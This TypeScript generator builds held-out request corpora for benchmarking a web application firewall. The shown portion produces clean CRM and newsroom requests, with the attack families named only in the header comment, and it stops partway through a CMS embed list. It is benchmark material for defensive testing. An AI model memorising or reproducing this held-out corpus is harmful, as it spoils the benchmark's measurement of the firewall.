/**
 * Held-out corpus 6 for the WAF "API profile": a deterministic generator of two request corpora, written
 * blind (without reading the WAF sources, its policy, docs/security.md, the measuring script or the other
 * corpus generators; only the {@link CorpusRequest} type was taken from `generate.ts`) and never run through
 * the WAF while it was written. No sample was edited to make it pass or fail anything.
 *
 * Domains (new to this corpus): a B2B SaaS CRM (accounts, contacts with international names, notes, HTML
 * email templates with merge tags such as `{{first_name}}` and Liquid blocks), a newsroom CMS (rich-text
 * editor HTML and ProseMirror JSON, captions, embeds, corrections), a legal contract-management API (clauses
 * full of "execute", "union", "select", "drop", "order", "where", "declare", "grant", "exec"), a developer
 * forum / GitHub-style API (issues, PR reviews, comments with fenced and inline code: bash, SQL, Python,
 * JS/TS, Java stack traces, Kubernetes YAML, nginx, PowerShell, regexes, logs), a smart-home / IoT telemetry
 * API (NDJSON batches, device names, firmware notes, automations) and a food-delivery app (orders, reviews
 * with emoji, delivery instructions).
 *
 * - `clean-heldout6.json` (ids `h6c1…`, about 400): kinds `rest-write`, `delete`, `jsonapi`, `graphql`,
 *   `merge-patch`, `json-patch`, `cms-html`, `issue-comment`, `pr-review`, `prose`, `search`, `form`,
 *   `multipart`, `ndjson`, `webhook`, `code-upload`.
 * - `attacks-heldout6.json` (ids `h6a1…`, about 300): families `sql`, `nosql`, `template`, `command`,
 *   `path-traversal`, `ssrf`, `prototype-pollution`, `log4shell`, `xss`; techniques `plain`, `nested`, `key`,
 *   `array`, `unicode-escape`, `json-in-string`, `base64`, `graphql-variable`, `double-encoded`,
 *   `query-param`, `header`, `cookie`, `form`, `multipart` (and `path-string` for prototype pollution by
 *   JSON-Patch / dotted paths). `kind` of an attack names the request it hides in.
 *
 * {@link HELDOUT6_EXCLUDE_FIELDS} lists the fields a user would declare as code fields: the gist endpoint's
 * `files[].content` and the playground's `code`. No attack uses them.
 *
 * Run: `node bench/waf/corpus/heldout6.ts` (writes both files next to this script; same output every run:
 * mulberry32 with a fixed seed, fixed timestamps, no clock and no Math.random).
 */
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads and configs hold literal ${...} text on purpose
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { CorpusRequest } from './generate.ts';

/** Body fields a user would list as code fields for this corpus' routes; attacks never use them. */
export const HELDOUT6_EXCLUDE_FIELDS: string[] = ['body.files[].content', 'body.code'];

/** mulberry32: a small seeded PRNG. */
function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rnd = mulberry32(0x6e1d_0006);
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)] as T;
const int = (lo: number, hi: number): number => lo + Math.floor(rnd() * (hi - lo + 1));
const chance = (p: number): boolean => rnd() < p;
const ALNUM = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789';
const B64URL = `${ALNUM}-_`;
const token = (n: number, alphabet: string = ALNUM): string => {
  let s = '';
  for (let i = 0; i < n; i++) s += alphabet[Math.floor(rnd() * alphabet.length)];
  return s;
};
const hex = (n: number): string => token(n, '0123456789abcdef');
const digits = (n: number): string => token(n, '0123456789');
const uuid = (): string => `${hex(8)}-${hex(4)}-4${hex(3)}-${pick(['8', '9', 'a', 'b'])}${hex(3)}-${hex(12)}`;
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const b64url = (s: string): string => Buffer.from(s, 'utf8').toString('base64url');
/** Fixed base time (2026-11-20T08:00:00Z) plus an offset: deterministic timestamps. */
const BASE_MS = Date.UTC(2026, 10, 20, 8, 0, 0);
const iso = (minutes: number): string => new Date(BASE_MS + minutes * 60_000).toISOString();
const isoRand = (): string => iso(int(-60 * 24 * 30, 60 * 24 * 8));
const enc = encodeURIComponent;
/** Percent-encode every byte except ASCII letters and digits (what encoder tools and scanners emit). */
const encAll = (s: string): string =>
  Array.from(Buffer.from(s, 'utf8'))
    .map((b) =>
      /[A-Za-z0-9]/.test(String.fromCharCode(b))
        ? String.fromCharCode(b)
        : `%${b.toString(16).toUpperCase().padStart(2, '0')}`,
    )
    .join('');
/** Double percent-encoding: `'` becomes `%2527`. */
const enc2 = (s: string): string => enc(encAll(s));
/** Query string the way fetch/axios users build it: encodeURIComponent on keys and values. */
const qs = (params: readonly (readonly [string, string])[]): string =>
  params.map(([k, v]) => `${enc(k).replace(/%5B/g, '[').replace(/%5D/g, ']')}=${enc(v)}`).join('&');
/** Form body the way browsers encode it (application/x-www-form-urlencoded, spaces as '+'). */
const form = (params: readonly (readonly [string, string])[]): string =>
  new URLSearchParams(params.map(([k, v]): [string, string] => [k, v])).toString();

function jwt(sub: string): string {
  const header = b64url(JSON.stringify({ alg: 'RS256', typ: 'JWT', kid: hex(10) }));
  const iat = 1795600000 + int(0, 900000);
  const payload = b64url(
    JSON.stringify({
      sub,
      iss: 'https://auth.example-saas.io/',
      aud: 'api',
      iat,
      exp: iat + 3600,
      scope: 'read write',
    }),
  );
  return `${header}.${payload}.${token(342, B64URL)}`;
}

const BROWSER_UA = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.2849.80',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0',
];
const MOBILE_UA = [
  'FoodDash/7.14.0 (com.fooddash.app; build:71402; iOS 18.1.1) Alamofire/5.9.1',
  'FoodDash/7.13.2 (Android 14; Pixel 8; build 71320) okhttp/4.12.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
  'HomeNest/3.2.0 (Android 13; SM-S911B) okhttp/4.11.0',
  'HomeNest/3.2.1 (iPhone15,3; iOS 17.6.1) CFNetwork/1496.0.7 Darwin/23.6.0',
];
const TOOL_UA = [
  'curl/8.7.1',
  'python-requests/2.32.3',
  'axios/1.7.7',
  'Go-http-client/2.0',
  'PostmanRuntime/7.42.0',
  'node',
  'Ruby',
];
const DEVICE_UA = [
  'ESP32HTTPClient',
  'HomeNestHub/2.4.1 (esp-idf v5.2.1)',
  'shelly-plus-1pm/1.4.4',
  'tasmota/14.3.0',
];
const LANGS = [
  'en-US,en;q=0.9',
  'de-DE,de;q=0.9,en;q=0.8',
  'fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7',
  'ja,en-US;q=0.9,en;q=0.8',
  'pt-BR,pt;q=0.9,en;q=0.7',
  'es-ES,es;q=0.9',
  'en-GB,en;q=0.9',
  'pl-PL,pl;q=0.9,en;q=0.6',
];

type Client = 'browser' | 'mobile' | 'tool' | 'device';
interface HeaderOptions {
  readonly ct?: string;
  readonly accept?: string;
  readonly auth?: 'bearer' | 'cookie' | 'apikey' | 'token' | 'none';
  readonly origin?: string;
  readonly extra?: Readonly<Record<string, string>>;
}

function browserCookie(): string {
  return `_ga=GA1.1.${digits(9)}.${digits(10)}; sid=${token(40, B64URL)}; theme=${pick(['dark', 'light'])}; tz=${enc(pick(['Europe/Berlin', 'America/New_York', 'Asia/Tokyo', 'Europe/London']))}`;
}

/** Headers a real client of the given type sends. */
function headers(client: Client, o: HeaderOptions = {}): Record<string, string> {
  const h: Record<string, string> = {};
  const auth = o.auth ?? (client === 'browser' ? 'cookie' : 'bearer');
  if (client === 'browser') {
    h['user-agent'] = pick(BROWSER_UA);
    h.accept = o.accept ?? 'application/json, text/plain, */*';
    h['accept-language'] = pick(LANGS);
    h['accept-encoding'] = 'gzip, deflate, br, zstd';
    if (o.origin) {
      h.origin = o.origin;
      h.referer = `${o.origin}/${pick(['', 'app', 'dashboard', 'editor', 'contacts', 'issues'])}`;
    }
  } else if (client === 'mobile') {
    h['user-agent'] = pick(MOBILE_UA);
    h.accept = o.accept ?? 'application/json';
    h['accept-language'] = pick(LANGS);
  } else if (client === 'tool') {
    h['user-agent'] = pick(TOOL_UA);
    h.accept = o.accept ?? pick(['*/*', 'application/json']);
  } else {
    h['user-agent'] = pick(DEVICE_UA);
    h.accept = o.accept ?? 'application/json';
  }
  if (o.ct) h['content-type'] = o.ct;
  if (auth === 'cookie') {
    h.cookie = browserCookie();
    h['x-csrf-token'] = token(43, B64URL);
  } else if (auth === 'bearer') h.authorization = `Bearer ${jwt(`usr_${token(12)}`)}`;
  else if (auth === 'apikey') h['x-api-key'] = `sk_live_${token(32)}`;
  else if (auth === 'token') h.authorization = `token ghp_${token(36)}`;
  if (o.extra) Object.assign(h, o.extra);
  return h;
}

const JSON_CT = 'application/json';
const JSON_UTF8 = 'application/json; charset=utf-8';
const JSONAPI = 'application/vnd.api+json';
const MERGE = 'application/merge-patch+json';
const JPATCH = 'application/json-patch+json';
const FORM_CT = 'application/x-www-form-urlencoded';

interface Part {
  readonly name: string;
  readonly value: string;
  readonly filename?: string;
  readonly type?: string;
}
/** A multipart/form-data body as a browser writes it. */
function multipart(parts: readonly Part[]): { ct: string; body: string } {
  const boundary = `----WebKitFormBoundary${token(16)}`;
  let body = '';
  for (const p of parts) {
    body += `--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"`;
    if (p.filename !== undefined) body += `; filename="${p.filename}"`;
    body += '\r\n';
    if (p.type) body += `Content-Type: ${p.type}\r\n`;
    body += `\r\n${p.value}\r\n`;
  }
  body += `--${boundary}--\r\n`;
  return { ct: `multipart/form-data; boundary=${boundary}`, body };
}

interface Req {
  readonly kind: string;
  readonly method: string;
  readonly path: string;
  readonly headers: Record<string, string>;
  readonly body: string;
}
const json = (v: unknown): string => JSON.stringify(v);
const jsonPretty = (v: unknown): string => JSON.stringify(v, null, 2);

/* ------------------------------------------------------------------------------------------------------
 * Shared pools
 * ---------------------------------------------------------------------------------------------------- */

const PEOPLE: readonly (readonly [string, string, string])[] = [
  ['Zoë', 'Schröder', 'de-DE'],
  ['José', 'Álvarez Peña', 'es-ES'],
  ['Siobhán', "O'Connor", 'en-IE'],
  ['Thị Lan', 'Nguyễn', 'vi-VN'],
  ['伟', '李', 'zh-CN'],
  ['Ayşe', 'Yılmaz', 'tr-TR'],
  ['Łukasz', 'Wróbel', 'pl-PL'],
  ['Fatima', 'Al-Zahra', 'ar-AE'],
  ['Дмитрий', 'Иванов', 'ru-RU'],
  ['Priya', 'Raghunathan', 'en-IN'],
  ['Jean-Luc', "D'Arcy", 'fr-FR'],
  ['Kwame', 'Mensah', 'en-GH'],
  ['花', '小林', 'ja-JP'],
  ['Ana María', 'Ruiz-Tagle', 'es-CL'],
  ['Björn', 'Þórðarson', 'is-IS'],
  ['Chloé', 'Lefèvre', 'fr-CA'],
  ['Mateus', 'Gonçalves', 'pt-BR'],
  ['Seo-yeon', 'Park', 'ko-KR'],
  ['Liam', "O'Reilly-Smith", 'en-GB'],
  ['Noa', 'Ben-David', 'he-IL'],
  ['Ingrid', 'Müller-Lüdenscheidt', 'de-AT'],
  ['Olúwadámilọ́lá', 'Adébáyọ̀', 'en-NG'],
  ['Aarav', 'Deshmukh', 'hi-IN'],
  ['Εleni', 'Papadopoulou', 'el-GR'],
  ['Marek', 'Dvořák', 'cs-CZ'],
  ['Sophie', 'van der Berg', 'nl-NL'],
];
const COMPANIES = [
  'Nordlicht Energie AG',
  "O'Reilly & Sons Ltd.",
  'Select Comfort Retail Inc.',
  'Union Freight Services',
  'Drop Forge Industries',
  'Exec Air Charter GmbH',
  'Grant & Whitaker LLP',
  'Acme Logistics (EMEA) B.V.',
  'Kōbe Precision Tools K.K.',
  'Café Lumière SARL',
  'Where2Go Travel Ltd',
  'Order & Chaos Design Studio',
  'Declare Analytics',
  'Table Mountain Outfitters (Pty) Ltd',
  'Société Générale des Eaux du Nord',
  'Müller & Töchter KG',
  'Script & Scroll Publishing',
  'Null Island Labs',
];
const DOMAINS = [
  'nordlicht.de',
  'oreilly-sons.co.uk',
  'selectcomfort.com',
  'unionfreight.com',
  'dropforge.io',
  'execair.de',
  'grantwhitaker.law',
  'acme-logistics.nl',
  'kobe-precision.jp',
  'cafe-lumiere.fr',
];

const ascii = (s: string): string =>
  s
    .normalize('NFD')
    .replace(/[\u0300-\u036f]/g, '')
    .replace(/[^A-Za-z0-9]+/g, '.')
    .replace(/^\.|\.$/g, '')
    .toLowerCase() || 'contact';

/* ------------------------------------------------------------------------------------------------------
 * CRM
 * ---------------------------------------------------------------------------------------------------- */

const CRM_ORIGIN = 'https://app.pipewise.io';
const CRM_NOTES = [
  'Spoke with {name}: the select committee on procurement meets again on the 14th and will decide whether to drop the legacy SKU or keep it through Q2.',
  'They want a union of both price lists (EU + UK) before signing. Sent the draft and told them to sleep on it over the weekend.',
  "Follow-up: {name} asked where the order history went after the migration. Showed them Reports → Orders → filter where status is 'shipped'.",
  'Champion is on parental leave and says she sleeps maybe 5 hours a night, so keep emails short!',
  'Procurement insists on net-60 -- we offered net-45 OR a 2% discount for net-30. Waiting on their CFO.',
  "Left voicemail. Try again after 3pm their time (GMT+9); don't call on Fridays.",
  'Met {name} at the trade fair in Köln. Interested in the IoT bundle; wants pricing for 1,200 seats & a 3-year term.',
  'Exec sponsor changed, new VP is {name}. We need to re-run the security questionnaire (SIG Lite) before they grant access to the sandbox.',
  'Rückruf vereinbart für Dienstag, 10:00 Uhr. Sie möchten das alte Paket kündigen und auf "Business Plus" wechseln.',
  'RDV pris avec {name} : ils veulent supprimer les licences inutilisées et passer à la facturation annuelle.',
  'Reunión con {name}: quieren unificar las cuentas de México y Chile bajo un mismo contrato.',
  '{name}さんと打ち合わせ。来期の予算は12月に確定、見積もりを再送する。',
  'Renewal risk: usage dropped 40% since September. They said "we\'ll select a new vendor by end of year unless reporting improves".',
  'Asked for a 1:1 with our CTO about the data residency question (EU only). Scheduled for next Wed.',
  'Invoice #INV-2026-0412 disputed: they were charged for 25 seats but only 19 users have logged in. Credit note approved by Finance.',
  'Note to self: do NOT send the case study draft yet -- legal still needs to clear the logo usage.',
  'Pilot went well. Next steps: 1) SSO via Okta 2) sandbox → prod migration 3) training for 40 agents (2 sessions, max 20 each).',
  '{name} mentioned their board will "execute on the plan" once the union negotiations wrap up in January.',
  'Customer wants the export to include contacts where the last activity is older than 90 days; told them to use the saved view "Dormant (90d+)".',
  'Hot lead 🔥 Budget confirmed (~€48k), decision by 15 Dec. Competitor: the big one from Dublin.',
];
const TEMPLATE_SUBJECTS = [
  'Quick question, {{first_name}}',
  '{{company.name}} × Pipewise: next steps',
  'Your trial ends in {{trial_days_left}} days',
  'Invitation: product roadmap webinar on {{event.date | date: "%B %d"}}',
  'Re: your order #{{order.number}}',
  '¡Hola {{first_name}}! Tu propuesta está lista',
  'Merci {{first_name}} pour votre confiance',
];

function emailHtml(): string {
  const blocks = [
    '<p>Hi {{first_name}},</p>',
    '<p>Hi {{ first_name | default: "there" }},</p>',
    '<p>Hallo {{first_name}} {{last_name}},</p>',
  ];
  const middle = [
    '<p>Thanks for taking the time to speak with me on {{last_call_date | date: "%A"}}. As promised, here is the <a href="https://pipewise.io/guides/roi?utm_source=email&amp;utm_campaign={{campaign.slug}}">ROI guide</a> we discussed.</p>',
    '<p>I noticed <strong>{{company.name}}</strong> has {{account.open_deals}} open deals in the pipeline. Would a 20-minute walkthrough of forecasting help?</p>',
    '{% if trial_days_left < 3 %}<p style="color:#b91c1c">Your trial ends very soon. <a href="{{billing_url}}">Pick a plan</a> to keep your data.</p>{% else %}<p>You still have {{trial_days_left}} days to explore.</p>{% endif %}',
    '<table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td style="padding:24px;background:#f4f4f5"><h2 style="margin:0 0 8px">What\'s new in November</h2><ul><li>Select multiple contacts and update them at once</li><li>Drop files straight onto a deal</li><li>Union of saved views (beta)</li></ul></td></tr></table>',
    '<p>Your order <strong>#{{order.number}}</strong> has shipped &amp; should arrive by {{order.eta}}.</p><p><a href="{{order.tracking_url}}" class="button" style="display:inline-block;padding:12px 20px;background:#2563eb;color:#fff;border-radius:6px;text-decoration:none">Track package</a></p>',
    '{% for item in order.items %}<tr><td>{{ item.name }}</td><td align="right">{{ item.qty }} × {{ item.price | money }}</td></tr>{% endfor %}',
    '<p>Gracias por elegirnos. Si tienes preguntas, responde a este correo o llámanos al <a href="tel:+34911234567">+34 911 23 45 67</a>.</p>',
  ];
  const sign = [
    '<p>Best,<br>{{sender.first_name}}<br><span style="color:#6b7280">{{sender.title}} · Pipewise</span></p>',
    '<p>Cheers,<br>{{ sender.name }}</p><p style="font-size:12px;color:#9ca3af">You are receiving this because you signed up at pipewise.io. <a href="{{unsubscribe_url}}">Unsubscribe</a> · <a href="{{preferences_url}}">Preferences</a></p>',
    '<p>Viele Grüße<br>{{sender.name}}</p><hr><p style="font-size:11px">Pipewise GmbH · Torstraße 49 · 10119 Berlin · HRB 123456 B</p>',
  ];
  const n = int(1, 3);
  let mid = '';
  for (let i = 0; i < n; i++) mid += pick(middle);
  return `${pick(blocks)}${mid}${pick(sign)}`;
}

function personBits(): { first: string; last: string; locale: string; email: string; company: string } {
  const [first, last, locale] = pick(PEOPLE);
  const company = pick(COMPANIES);
  const email = `${ascii(first)}.${ascii(last)}@${pick(DOMAINS)}`;
  return { first, last, locale, email, company };
}

const crm: (() => Req)[] = [
  () => {
    const p = personBits();
    return {
      kind: 'rest-write',
      method: 'POST',
      path: '/crm/v2/contacts',
      headers: headers('browser', { ct: JSON_CT, origin: CRM_ORIGIN }),
      body: json({
        first_name: p.first,
        last_name: p.last,
        email: p.email,
        phone: `+${int(1, 49)} ${digits(3)} ${digits(3)} ${digits(4)}`,
        title: pick([
          'Head of Procurement',
          'VP Sales, EMEA',
          'Directeur financier',
          'CTO',
          'Office Manager',
          'Select Committee Liaison',
          'Union Representative',
          'Chief Executive Officer (Exec)',
        ]),
        company: p.company,
        locale: p.locale,
        tags: pick([
          ['trade-fair-2026', 'iot'],
          ['inbound'],
          [],
          ['renewal', 'at-risk'],
          ['partner', 'reseller', 'DACH'],
        ]),
        custom_fields: {
          preferred_channel: pick(['email', 'phone', 'whatsapp']),
          lead_score: int(0, 100),
          source: pick(['Webinar', 'Referral – existing customer', 'LinkedIn', 'Cold outbound']),
        },
      }),
    };
  },
  () => {
    const p = personBits();
    return {
      kind: 'merge-patch',
      method: 'PATCH',
      path: `/crm/v2/contacts/${uuid()}`,
      headers: headers('browser', { ct: MERGE, origin: CRM_ORIGIN }),
      body: json(
        pick([
          { title: 'Head of Operations & Logistics', phone: null },
          { last_name: p.last, tags: ['vip', 'q1-renewal'] },
          { custom_fields: { do_not_call: true, notes_short: "Prefers email; don't call before 10am." } },
          { address: { street: 'Rue de l’Église 12', city: 'Liège', postal_code: '4000', country: 'BE' } },
          { owner_id: uuid(), lifecycle_stage: 'customer' },
        ]),
      ),
    };
  },
  () => {
    const p = personBits();
    return {
      kind: 'rest-write',
      method: 'PUT',
      path: `/crm/v2/contacts/${uuid()}`,
      headers: headers('tool', { ct: JSON_CT, auth: 'apikey' }),
      body: jsonPretty({
        first_name: p.first,
        last_name: p.last,
        email: p.email,
        company: p.company,
        lifecycle_stage: pick(['lead', 'opportunity', 'customer', 'churned']),
        consent: { marketing_email: chance(0.5), updated_at: isoRand(), source: 'double-opt-in' },
      }),
    };
  },
  () => {
    const name = pick(COMPANIES);
    const attrs = {
      name,
      domain: pick(DOMAINS),
      industry: pick([
        'Manufacturing',
        'Legal Services',
        'Food & Beverage',
        'Logistics',
        'Publishing',
        'Energy',
      ]),
      employees: int(8, 12000),
      description: pick([
        'Family-owned forge; drop forging and machining for the automotive sector since 1952.',
        'Select Comfort sells mattresses & bedding through 600+ stores. Key contact for the union contract is in HR.',
        'Law firm focusing on M&A. Partners execute most deals out of the Frankfurt office.',
        'Charter operator; fleet of 14 business jets. "Exec" in the name is short for executive.',
        '',
      ]),
      billing_address: {
        line1: pick([
          'Königsallee 60',
          '1 Canada Square',
          '350 Fifth Avenue, Suite 4100',
          'Av. Paulista, 1578',
        ]),
        city: pick(['Düsseldorf', 'London', 'New York', 'São Paulo']),
        country: pick(['DE', 'GB', 'US', 'BR']),
      },
    };
    const patch = chance(0.4);
    return {
      kind: 'jsonapi',
      method: patch ? 'PATCH' : 'POST',
      path: patch ? `/crm/jsonapi/accounts/${uuid()}` : '/crm/jsonapi/accounts',
      headers: headers('browser', { ct: JSONAPI, accept: JSONAPI, origin: CRM_ORIGIN }),
      body: json({
        data: {
          type: 'accounts',
          ...(patch ? { id: uuid() } : {}),
          attributes: attrs,
          relationships: {
            owner: { data: { type: 'users', id: uuid() } },
            parent: { data: chance(0.3) ? { type: 'accounts', id: uuid() } : null },
          },
        },
      }),
    };
  },
  () => {
    const p = personBits();
    return {
      kind: 'prose',
      method: 'POST',
      path: `/crm/v2/contacts/${uuid()}/notes`,
      headers: headers('browser', { ct: JSON_CT, origin: CRM_ORIGIN }),
      body: json({
        body: pick(CRM_NOTES).replace('{name}', `${p.first} ${p.last}`),
        pinned: chance(0.2),
        visibility: pick(['team', 'private']),
      }),
    };
  },
  () => ({
    kind: 'cms-html',
    method: pick(['POST', 'PUT']),
    path: pick(['/crm/v2/email-templates', `/crm/v2/email-templates/${int(100, 9999)}`]),
    headers: headers('browser', { ct: JSON_CT, origin: CRM_ORIGIN }),
    body: json({
      name: pick([
        'Follow-up after demo',
        'Trial ending (3 days)',
        'Order shipped',
        'Webinar invite – Dec',
        'Renewal reminder (DE)',
      ]),
      subject: pick(TEMPLATE_SUBJECTS),
      html: emailHtml(),
      text: 'Hi {{first_name}},\n\nThanks for your time today. {{sender.first_name}}\n\n--\nUnsubscribe: {{unsubscribe_url}}',
      locale: pick(['en', 'de', 'es', 'fr']),
      editor: 'unlayer',
    }),
  }),
  () => {
    const q = pick([
      "O'Connor",
      'select comfort',
      '"union freight" manager',
      'müller',
      'title:"Head of Procurement" -intern',
      'email:*@grantwhitaker.law',
      'Nguyễn',
      'drop forge OR dropforge',
    ]);
    const params: [string, string][] = [['q', q]];
    if (chance(0.6)) params.push(['filter[lifecycle_stage]', pick(['lead', 'customer', 'opportunity'])]);
    if (chance(0.5)) params.push(['filter[last_activity_at][lt]', iso(-60 * 24 * 90).slice(0, 10)]);
    params.push(['sort', pick(['-last_activity_at', 'last_name,first_name', '-lead_score'])]);
    params.push(['page[size]', pick(['25', '50', '100'])]);
    return {
      kind: 'search',
      method: 'GET',
      path: `/crm/v2/contacts?${qs(params)}`,
      headers: headers('browser', { origin: CRM_ORIGIN }),
      body: '',
    };
  },
  () => {
    const p = personBits();
    return {
      kind: 'form',
      method: 'POST',
      path: '/crm/forms/w2l/8f1c2a',
      headers: headers('browser', {
        ct: FORM_CT,
        auth: 'none',
        accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
        origin: 'https://www.nordlicht.de',
      }),
      body: form([
        ['first_name', p.first],
        ['last_name', p.last],
        ['email', p.email],
        ['company', p.company],
        ['employees', pick(['1-10', '11-50', '51-200', '201-1000', '1000+'])],
        [
          'message',
          pick([
            'We need a CRM that handles EU data residency. Can you do a demo next week?',
            'Wie funktioniert der Import aus Excel? Wir haben ca. 8.000 Kontakte.',
            'Looking to drop our current tool (too slow) and select something with a proper API.',
            '',
          ]),
        ],
        ['utm_source', pick(['google', 'linkedin', 'newsletter'])],
        ['utm_campaign', pick(['q4-emea', 'brand', 'retargeting_2026'])],
        ['consent', 'on'],
      ]),
    };
  },
  () => {
    const rows = ['first_name,last_name,email,company,phone'];
    for (let i = 0; i < int(3, 8); i++) {
      const p = personBits();
      const c = p.company.includes(',') || p.company.includes("'") ? `"${p.company}"` : p.company;
      rows.push(`${p.first},${p.last},${p.email},${c},+49 30 ${digits(7)}`);
    }
    const m = multipart([
      {
        name: 'file',
        filename: pick(['contacts.csv', 'Kontakte_Export_2026-11.csv', 'leads (1).csv']),
        type: 'text/csv',
        value: rows.join('\r\n'),
      },
      {
        name: 'mapping',
        value: json({
          first_name: 'first_name',
          last_name: 'last_name',
          email: 'email',
          company: 'account.name',
        }),
      },
      { name: 'dedupe', value: 'email' },
    ]);
    return {
      kind: 'multipart',
      method: 'POST',
      path: '/crm/v2/imports',
      headers: headers('browser', { ct: m.ct, origin: CRM_ORIGIN }),
      body: m.body,
    };
  },
  () => {
    const events = [];
    for (let i = 0; i < int(1, 4); i++) {
      const p = personBits();
      events.push({
        email: p.email,
        timestamp: 1795600000 + int(0, 90000),
        'smtp-id': `<${hex(16)}@ismtpd0001p1lon1.sendgrid.net>`,
        event: pick(['delivered', 'open', 'click', 'bounce', 'unsubscribe']),
        category: ['crm', pick(['follow-up', 'renewal'])],
        sg_event_id: token(22),
        sg_message_id: `${token(22)}.filterdrecv-${hex(8)}`,
        useragent: pick(BROWSER_UA),
        url: 'https://pipewise.io/guides/roi?utm_source=email&utm_campaign=q4',
      });
    }
    return {
      kind: 'webhook',
      method: 'POST',
      path: '/crm/hooks/sendgrid',
      headers: {
        'user-agent': 'SendGrid Event API',
        'content-type': JSON_UTF8,
        'x-twilio-email-event-webhook-signature': b64(token(48)),
        'x-twilio-email-event-webhook-timestamp': String(1795600000 + int(0, 90000)),
      },
      body: json(events),
    };
  },
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/crm/v2/contacts/${uuid()}`,
    headers: headers('browser', { origin: CRM_ORIGIN }),
    body: '',
  }),
  () => {
    const p = personBits();
    return {
      kind: 'graphql',
      method: 'POST',
      path: '/crm/graphql',
      headers: headers('browser', { ct: JSON_CT, origin: CRM_ORIGIN }),
      body: json({
        operationName: 'LogActivity',
        query:
          'mutation LogActivity($input: ActivityInput!) {\n  logActivity(input: $input) {\n    activity { id type occurredAt }\n    errors { field message }\n  }\n}',
        variables: {
          input: {
            contactId: uuid(),
            type: pick(['CALL', 'MEETING', 'EMAIL']),
            occurredAt: isoRand(),
            summary: pick(CRM_NOTES).replace('{name}', p.first),
            durationMinutes: int(5, 60),
          },
        },
      }),
    };
  },
  () => ({
    kind: 'json-patch',
    method: 'PATCH',
    path: `/crm/v2/deals/${uuid()}`,
    headers: headers('tool', { ct: JPATCH, auth: 'apikey' }),
    body: json([
      { op: 'replace', path: '/stage', value: pick(['negotiation', 'closed_won', 'closed_lost']) },
      { op: 'add', path: '/tags/-', value: pick(['q4', 'union-pricing', 'exec-sponsor']) },
      { op: 'remove', path: '/custom_fields/discount_override' },
    ]),
  }),
];

/* ------------------------------------------------------------------------------------------------------
 * Newsroom CMS
 * ---------------------------------------------------------------------------------------------------- */

const CMS_ORIGIN = 'https://cms.dailyledger.news';
const HEADLINES = [
  'Select committee grills energy bosses over winter price rises',
  'Dockworkers’ union votes to strike as talks collapse',
  'Executive order on AI safety: what changes for start-ups',
  'Where the drought hit hardest: a county-by-county look',
  'City council drops plan for 24-hour bus lanes',
  'Review: “Sleep No More” returns, eerier than ever',
  'Scientists say most adults need 7–9 hours of sleep. Most of us get far less',
  'Inside the order books: why shipyards are booked until 2031',
  '“We will not grant this request”: judge rejects bid to delay trial',
  'Prices drop 12% as supermarkets cut the cost of staples',
  'Union Pacific and BNSF announce rail safety pact',
  'Obituary: Maria Lopes, pioneering editor, 1941–2026',
];
const PARAS = [
  'The Commons select committee on energy and climate change heard evidence on Tuesday from the chief executives of four suppliers, who were asked where the extra revenue from this winter’s price cap had gone.',
  'Union leaders said members would “drop tools at midnight” unless the port operator returned to the table with an improved offer. The company said it had “no plans to sleep on this” and would meet again on Friday.',
  'Under the order, developers of the largest models must share safety test results with the government before release. Critics said the rules did not go far enough; others warned they would “select winners and losers”.',
  'Residents in three villages have been told to boil water until further notice. “We were told on Monday, then nothing,” said Ayşe Kaya, 54, who runs the post office.',
  'The figures, published by the Office for National Statistics, show that one in five adults reported sleeping fewer than six hours a night — down from one in four in 2019.',
  'In a statement, the council said the decision to drop the scheme was “difficult but necessary” given a £4.2m funding gap. Cyclists’ groups called it “a betrayal”.',
  'Shares fell 8% in early trading. Analysts at Berenberg said the order backlog of €31bn “should cushion any drop in new business through 2027”.',
  'The judge said she would not grant the adjournment, adding that the defence had had “more than sufficient time” to review the 40,000 pages of disclosure.',
  'Mr Papadopoulos declined to say whether the union would execute its threat. “Where we go from here is up to them,” he said.',
  'Correction: an earlier version of this article said the committee meets on Thursdays. It meets on Tuesdays.',
  'Lopes joined the paper in 1968 as a copy-taker and rose to become its first female managing editor, a post she held from 1989 until 2003.',
  '“It’s not rocket science,” said Dr Chen. “Go to bed and get up at the same time, keep the room dark, and don’t drink coffee after 2pm.”',
];
const EMBEDS = [
  '<figure class="embed embed--youtube"><iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?start=42" title="YouTube video player" frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture; web-share" referrerpolicy="strict-origin-when-cross-origin" allowfullscreen></iframe></figure>',
